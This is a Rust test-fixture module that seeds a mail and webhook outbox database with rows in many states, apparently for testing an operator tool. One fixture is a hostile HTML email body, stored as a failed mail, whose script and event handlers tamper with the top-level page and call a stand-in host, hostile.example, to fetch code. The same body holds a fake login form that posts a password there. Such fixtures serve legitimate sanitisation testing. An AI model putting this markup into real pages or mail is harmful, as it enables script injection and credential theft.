//! Settings with a lane of each contract, and rows in every state of each.
//!
//! The rows are inserted with SQL, as applications and workers write them. Waiting rows are due much later, and claimed
//! rows belong to another worker, so that nothing changes while a page is open.

use std::path::Path;

use serde_json::{Value, json};

use crate::sandbox::Sandbox;
use crate::support::sql::Sql;

/// Failed mails: more than a page, one of them with hostile HTML.
const FAILED: u32 = 214;

const HOSTILE: &str = r#"<html><body onload="top.hostile=1"><h1>Hostile greetings</h1>
<script>top.hostile = 1; top.document.title = "taken"; fetch("https://hostile.example/script")</script>
<img src="https://hostile.example/pixel.png" onerror="top.hostile=1"><link rel="stylesheet" href="https://hostile.example/s.css">
<style>@import url("https://hostile.example/i.css"); body { background: url("https://hostile.example/b.png") }</style>
<iframe src="https://hostile.example/frame"></iframe><meta http-equiv="refresh" content="0;url=https://hostile.example/away">
<form action="https://hostile.example/form"><input name="password"><button>Log in</button></form></body></html>"#;

/// The rows and objects that the scripts look for.
pub struct Fixtures {
    pub mail: String,
    pub hostile: String,
    pub dead: String,
    pub cancelled: String,
    pub pending: String,
}

impl Fixtures {
    pub fn to_json(&self) -> Value {
        json!({
            "mail": self.mail, "hostile": self.hostile, "failed": FAILED, "dead": self.dead, "cancelled": self.cancelled,
            "pending": self.pending, "retried": "0HZXEQ5Y8JD02", "acme": "0HZXEQ5Y8JC00", "record": "3", "notification": "1",
            "email": "mail-READY",
        })
    }
}

pub fn settings(url: &str, base: &Path) -> String {
    let base = base.display();
    format!(
        r#"
[server]
api = "main"
[stores.main]
url = "{url}"
[transports.folder]
url = "file:outbox"
[transports.hooks]
url = "webhook://?allow=127.0.0.0/8&plain_http=allowed"
[transports.broker]
url = "nats://127.0.0.1:1"
[mail]
from            = "Seats <seats@example.org>"
manage_url      = "https://seats.example.org/subscriptions/{{subscription_id}}?token={{token}}"
unsubscribe_url = "https://seats.example.org/unsubscribe?token={{token}}"
time_zone       = "America/New_York"
[lanes.mail]
contract  = "mail_outbox"
transport = "folder"
[lanes.events]
contract  = "outbox"
transport = "broker"
[lanes.webhooks]
contract  = "dispatch_jobs"
transport = "hooks"
[lanes.notify]
contract  = "open_event_notifications"
transport = "folder"
[lanes.emails]
contract  = "emails"
stage     = "send"
transport = "folder"
[lanes.emails.emails]
base = "{base}"
"#
    )
}

/// Inserts the rows; creates accounts and other objects of the hub with the command line, as operators do.
pub async fn insert(sandbox: &Sandbox, sql: &Sql, receiver: &str) -> Fixtures {
    mails(sql).await;
    records(sql).await;
    jobs(sql, receiver).await;
    notifications(sandbox, sql).await;
    emails(sandbox, sql).await;
    // `check` must have a finding, and a statement that fixes it.
    sql.must("DROP INDEX mail_outbox_dispatch_claim").await;
    Fixtures {
        mail: first(sql, "to_addresses = 'customer7@example.net'").await,
        hostile: first(sql, "subject = 'Hostile'").await,
        dead: "0HZXEQ5Y8JD00".into(),
        cancelled: "0HZXEQ5Y8JD01".into(),
        pending: "0HZXEQ5Y8JP00".into(),
    }
}

async fn first(sql: &Sql, condition: &str) -> String {
    let rows = sql.rows(&format!("SELECT id::text FROM mail_outbox WHERE {condition}")).await;
    rows.expect("the mails can be read")[0][0].clone().expect("an id")
}

async fn mails(sql: &Sql) {
    let html = "<h1>Your order 17</h1><p>It is on its way, and arrives <b>on Thursday</b>.</p>";
    let columns = "to_addresses, subject, body_text, body_html, status, retry_count, next_attempt_at, last_attempt_at, created_at";
    let mail =
        format!("'customer' || n || '@example.net', 'Your order ' || n, 'It is on its way.', '{html}'");
    for (count, status, rest, more) in [
        (
            FAILED - 1,
            "failed",
            "5, now(), now() - n * interval '11 s'",
            ", last_error = '550 5.1.1 no such mailbox: customer' || id || '@example.net'",
        ),
        (
            120,
            "sent",
            "0, now(), now() - n * interval '1 s'",
            ", sent_at = now(), provider_message_id = 'm-' || id",
        ),
        (
            3,
            "queued",
            "1, now() + interval '4 min', now() - interval '1 min'",
            ", last_error = '452 4.2.2 mailbox full'",
        ),
        (
            2,
            "dispatching",
            "0, now(), now()",
            ", claimed_by = 'another worker', lease_until = now() + interval '1 h'",
        ),
    ] {
        let created = "now() - n * interval '13 s'";
        sql.must(&format!(
            "INSERT INTO mail_outbox ({columns}) SELECT {mail}, '{status}', {rest}, {created} FROM generate_series(1, {count}) n"
        ))
        .await;
        sql.must(&format!("UPDATE mail_outbox SET status = status {more} WHERE status = '{status}'")).await;
    }
    // The newest queued and sent rows must not match the search for the failed one.
    sql.must(
        "UPDATE mail_outbox SET to_addresses = 'other' || id || '@example.net' WHERE status <> 'failed'",
    )
    .await;
    let hostile = HOSTILE.replace('\'', "''");
    sql.must(&format!(
        "INSERT INTO mail_outbox (to_addresses, subject, body_text, body_html, status, retry_count, last_error, last_attempt_at) \
         VALUES ('victim@example.net', 'Hostile', 'Hostile', '{hostile}', 'failed', 5, '554 5.7.1 refused', now())"
    ))
    .await;
}

async fn records(sql: &Sql) {
    for (status, rest) in [
        ("DELIVERED", "processed_at = now()"),
        ("FAILED", "retry_count = 2, last_error = 'the topic does not exist'"),
        ("PENDING", "next_attempt_at = NULL"),
        ("PENDING", "next_attempt_at = NULL"),
        ("PROCESSING", "claimed_at = now() + interval '1 h'"),
    ] {
        sql.must(
            "INSERT INTO outbox (deal_id, topic, partition_key, payload, idempotency_key, traceparent) \
             VALUES ('D-17', 'orders', 'order-17', '{\"order\":17,\"lines\":[{\"sku\":\"A-1\",\"count\":2}]}', \
             gen_random_uuid()::text, '00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01')",
        )
        .await;
        let newest = "id = (SELECT max(id) FROM outbox)";
        sql.must(&format!("UPDATE outbox SET status = '{status}', {rest} WHERE {newest}")).await;
    }
}

async fn jobs(sql: &Sql, receiver: &str) {
    sql.must("INSERT INTO dispatch_pools (id, code, name, paused) VALUES ('0HZXEQ5Y8JS00', 'slow', 'Slow targets', true)").await;
    let job = |id: &str, status: &str, client: &str, columns: &str, values: &str| {
        format!(
            "INSERT INTO dispatch_jobs (id, code, subject, target_url, headers, payload, client_id, status, max_retries{columns}) \
             VALUES ('{id}', 'shop:orders:order:paid', 'order/17', '{receiver}', '{{\"x-shop\":\"7\"}}', '{{\"order\":17,\"total\":\"19.90\"}}', \
             {client}, '{status}', 3{values})"
        )
    };
    let spent = ", attempt_count, last_attempt_at, last_error";
    let spending = ", 3, now(), '503: the target is busy'";
    for (id, status, client, columns, values) in [
        ("0HZXEQ5Y8JP00", "PENDING", "NULL", ", scheduled_for", ", now() + interval '1 h'"),
        ("0HZXEQ5Y8JQ00", "QUEUED", "NULL", ", dispatch_pool_id", ", '0HZXEQ5Y8JS00'"),
        (
            "0HZXEQ5Y8JR00",
            "ERROR",
            "NULL",
            ", attempt_count, next_attempt_at, last_error",
            ", 1, now() + interval '4 min', '503: the target is busy'",
        ),
        (
            "0HZXEQ5Y8JN00",
            "IN_PROGRESS",
            "NULL",
            ", last_attempt_at, claimed_by, lease_until",
            ", now(), 'another worker', now() + interval '1 h'",
        ),
        ("0HZXEQ5Y8JC00", "COMPLETED", "'acme'", ", attempt_count, completed_at", ", 1, now()"),
        ("0HZXEQ5Y8JD00", "ERROR", "NULL", spent, spending),
        ("0HZXEQ5Y8JD01", "ERROR", "NULL", spent, spending),
        ("0HZXEQ5Y8JD02", "ERROR", "NULL", spent, spending),
        ("0HZXEQ5Y8JD03", "ERROR", "NULL", spent, spending),
        ("0HZXEQ5Y8JX00", "CANCELLED", "NULL", "", ""),
    ] {
        sql.must(&job(id, status, client, columns, values)).await;
    }
    for number in 1..=3 {
        sql.must(&format!(
            "INSERT INTO dispatch_attempts (id, job_id, attempt_number, attempted_at, completed_at, duration_millis, status, response_code, \
             response_body, error_message, error_type) VALUES ('0HZXEQ5Y8JA0{number}', '0HZXEQ5Y8JD00', {number}, \
             now() - (4 - {number}) * interval '10 min', now() - (4 - {number}) * interval '10 min', 118 + {number}, 'SERVER_ERROR', 503, \
             '{{\"error\":\"busy\"}}', '503: the target is busy', 'TRANSIENT')"
        ))
        .await;
    }
    for (id, code) in [("0HZXEQ5Y8JW00", "crm"), ("0HZXEQ5Y8JW01", "ledger")] {
        sql.must(&format!(
            "INSERT INTO dispatch_subscriptions (id, code, name, event_code, filters, target_url, headers, mode, sequence, data_only, \
             timeout_seconds, max_retries, retry_strategy, honours_ack, active, paused, paused_reason) VALUES ('{id}', '{code}', 'The {code}', \
             'shop:orders:order:paid', '[]', '{receiver}', '{{}}', 'IMMEDIATE', 99, true, 30, 3, 'exponential', false, true, {paused}, {reason})",
            paused = code == "crm",
            reason = if code == "crm" { "'410 Gone'" } else { "NULL" },
        ))
        .await;
    }
    sql.must(
        "INSERT INTO dispatch_events (id, event_id, source, code, subject, data_content_type, data, extensions) VALUES \
         ('0HZXEQ5Y8JV00', 'e-1', '/shop', 'shop:orders:order:paid', 'order/17', 'application/json', '{\"order\":17}', '{}')",
    )
    .await;
    sql.must(
        "INSERT INTO service_accounts (id, code, name, client_ids, active, roles) VALUES ('0HZXEQ5Y8JK00', 'shop', 'The shop', '[]', true, '[]')",
    )
    .await;
    sql.must("INSERT INTO postrider_audit (id, action, entity, entity_id) VALUES ('0HZXEQ5Y8JL00', 'create', 'dispatchJob', '0HZXEQ5Y8JC00')")
        .await;
}

async fn notifications(sandbox: &Sandbox, sql: &Sql) {
    sandbox.run(&["pause", "notify"]).success();
    sql.must(
        "INSERT INTO courses (title, course_string) VALUES ('Introduction to Algorithms', '01:198:344')",
    )
    .await;
    sql.must("INSERT INTO sections (course_id, section_number, subject_code, meeting_summary) VALUES (1, '03', '198', 'Mon 10:20')").await;
    sql.must(
        "INSERT INTO open_events (section_id, term_id, campus_code, index_number, status_after, event_at, dedupe_key) \
         VALUES (1, '2026F', 'NB', '07214', 'Open', now(), 'd-1')",
    )
    .await;
    for (status, rest) in [
        ("pending", "error = NULL"),
        ("pending", "locked_by = 'another worker', locked_at = now() + interval '1 h'"),
        ("sent", "fanout_attempts = 1"),
        ("failed", "fanout_attempts = 3, error = '{\"message\":\"550 no such mailbox\"}'"),
        ("skipped", "error = '{\"message\":\"unsubscribed\"}'"),
        ("expired", "error = '{\"message\":\"too old\"}'"),
    ] {
        sql.must("INSERT INTO subscriptions (section_id, contact_value) SELECT 1, 'ann' || count(*) || '@example.net' FROM subscriptions").await;
        sql.must(
            "INSERT INTO open_event_notifications (open_event_id, subscription_id, dedupe_key) \
             SELECT 1, max(subscription_id), 'd-' || max(subscription_id) FROM subscriptions",
        )
        .await;
        sql.must(&format!(
            "UPDATE open_event_notifications SET fanout_status = '{status}', {rest} \
             WHERE notification_id = (SELECT max(notification_id) FROM open_event_notifications)"
        ))
        .await;
    }
}

async fn emails(sandbox: &Sandbox, sql: &Sql) {
    let base = sandbox.path("mnt");
    std::fs::create_dir_all(&base).expect("a test's own folder can be written to");
    let eml = base.join("welcome.eml");
    let text = "From: shop@example.com\r\nTo: ann@example.net\r\nSubject: Welcome\r\nContent-Type: text/plain\r\n\r\nHello Ann.\r\n";
    std::fs::write(&eml, text).expect("it can be written");
    for status in [
        "ACCEPTED",
        "INTAKING",
        "READY",
        "PROCESSING",
        "SENT",
        "FAILED",
        "INVALID",
        "CALLING-SENT-CALLBACK",
        "CALLING-FAILED-CALLBACK",
        "SENT-ACKNOWLEDGED",
        "FAILED-ACKNOWLEDGED",
    ] {
        sql.must(&format!(
            "INSERT INTO emails (id, status, eml_file_path, attempts, next_attempt_at, updated_at) VALUES \
             ('mail-{status}', '{status}', '{}', 0, now() + interval '1 h', now() + interval '1 h')",
            eml.display()
        ))
        .await;
        sql.must(&format!("INSERT INTO email_statuses (email_id, status) VALUES ('mail-{status}', 'ACCEPTED'), ('mail-{status}', '{status}')")).await;
    }
}
